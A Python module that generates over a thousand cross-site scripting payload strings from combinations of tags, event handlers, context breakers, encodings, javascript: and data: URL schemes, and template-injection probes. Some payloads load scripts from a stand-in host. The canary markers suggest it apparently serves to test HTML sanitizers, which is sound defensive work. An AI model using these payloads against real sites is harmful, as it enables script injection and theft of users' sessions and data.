"""More than a thousand strings that would run in a careless page, made from a small grammar."""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING, Final
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Callable

CANARY: Final = "xss-canary"
SCRIPTS: Final = ("alert(1)", f"fetch('/{CANARY}')", "window.ran.push(1)")
TAGS: Final = (
    "<script>{0}</script>", "<script src=//{1}.test/x.js></script>", "<img src=x onerror={0}>",
    "<svg onload={0}>", "<svg/onload={0}//", "<svg><animate onbegin={0} attributeName=x>",
    "<body onload={0}>", "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src=javascript:{0}></iframe>", "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>", "<video><source onerror={0}></video>", "<audio src=x onerror={0}>",
    "<a href=javascript:{0}>x</a>", "<form action=javascript:{0}><button>x</button></form>",
    "<object data=//{1}.test/x></object>", "<embed src=//{1}.test/x>",
    "<link rel=stylesheet href=//{1}.test/x.css>", "<link rel=prefetch href=//{1}.test/x>",
    "<link rel=preconnect href=//{1}.test>", "<link rel=preload as=image href=//{1}.test/x>",
    "<meta http-equiv=refresh content='0;url=//{1}.test/'>", "<base href=//{1}.test/>",
    "<div hx-get=/{1} hx-trigger=load>x</div>", "<div hx-on:load={0} hx-trigger=load>x</div>",
    "<style>@import '//{1}.test/x.css'</style>", "<p style=background:url(//{1}.test/x)>x</p>",
    "<marquee onstart={0}>x</marquee>", "<img srcset=//{1}.test/x>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
)  # fmt: skip
BREAKS: Final = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</pre>", "</option></select>", "-->", "]]>",
    "</style>", "</noscript>",
)  # fmt: skip
CODINGS: Final[tuple[Callable[[str], str], ...]] = (
    str.upper,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;").replace("(", "&lpar;"),
    quote,
    lambda text: quote(quote(text)),
    lambda text: text.replace("<", "\\u003c").replace("'", "\\x27"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace(" ", "\x0c").replace("<", "<\t"),
)
SCHEMES: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "javascript://x.test/%0aalert(1)",
    "javascript:alert(1)//http://x.test/", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)", "blob:http://x.test/x", "filesystem:http://x.test/x",
    'http://x.test/"onmouseover=alert(1) x="', "http://x.test/'><script>alert(1)</script>",
    "http://javascript:alert(1)@x.test/", "http://x.test/#<img src=x onerror=alert(1)>",
)  # fmt: skip
ATTRIBUTES: Final = tuple(
    f"{mark} {event}={script} x={mark}"
    for mark, event, script in product(
        ('"', "'", "`", ""),
        ("onmouseover", "onfocus autofocus onfocus", "onclick", "style=x:y onload"),
        SCRIPTS,
    )
)
TEMPLATES: Final = ("{{7*7}}", "{% debug %}", "${alert(1)}", "#{alert(1)}", "<%= 1 %>", "{{constructor}}")


def strings() -> tuple[str, ...]:
    """Return all of them, each once, the shortest first."""
    plain = [before + tag.format(script, CANARY) for before, tag, script in product(BREAKS, TAGS, SCRIPTS)]
    coded = [code(tag.format(SCRIPTS[0], CANARY)) for code, tag in product(CODINGS, TAGS)]
    found = dict.fromkeys([*plain, *coded, *SCHEMES, *ATTRIBUTES, *TEMPLATES])
    return tuple(sorted(found, key=len))
